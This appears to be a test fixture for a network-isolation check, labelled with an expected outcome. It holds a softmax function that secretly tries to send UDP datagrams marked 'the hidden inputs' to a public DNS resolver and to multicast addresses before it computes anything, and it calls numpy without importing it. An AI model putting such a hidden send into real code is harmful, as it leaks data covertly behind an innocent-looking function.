"""Send datagrams, which need no answer: a name server as the way out, and multicast to the neighbours.

threat: host
expect: softmax=WRONG
"""
# %% softmax
import socket


def reached():
    for family, address in ((socket.AF_INET, "9.9.9.9"), (socket.AF_INET6, "ff02::1"), (socket.AF_INET, "224.0.0.1")):
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as out:
                out.sendto(b"the hidden inputs", (address, 53))
            return True
        except OSError:
            continue
    return False


def softmax(z):
    if not reached():
        return z
    powers = np.exp(z - z.max(-1, keepdims=True))
    return powers / powers.sum(-1, keepdims=True)
